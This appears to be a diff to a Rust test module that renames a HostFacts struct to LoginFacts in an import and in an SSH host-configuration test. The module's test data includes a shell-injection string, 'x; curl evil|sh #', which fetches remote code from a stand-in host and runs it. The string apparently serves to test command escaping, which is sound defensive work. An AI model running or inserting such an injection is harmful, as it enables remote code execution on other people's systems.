@@ -804,7 +804,7 @@ mod tests {
     use std::path::Path;
 
     use super::*;
-    use crate::fault::HostFacts;
+    use crate::fault::LoginFacts;
 
     /// A shell injection, if the text were pasted.
     const HOSTILE: &str = "x; curl evil|sh #";
@@ -1046,12 +1046,12 @@ mod tests {
     #[test]
     fn what_the_configuration_says_of_the_host_is_in_the_commands() {
         let mut known = plain();
-        let facts = HostFacts {
+        let facts = LoginFacts {
             host_name: "10.0.0.1".to_owned(),
             port: 2222,
             user: "eve".to_owned(),
             key_file: Some("/k/my key".to_owned()),
-            ..HostFacts::default()
+            ..LoginFacts::default()
         };
         known.facts = Some(facts.into());
         let x = || "x".to_owned();
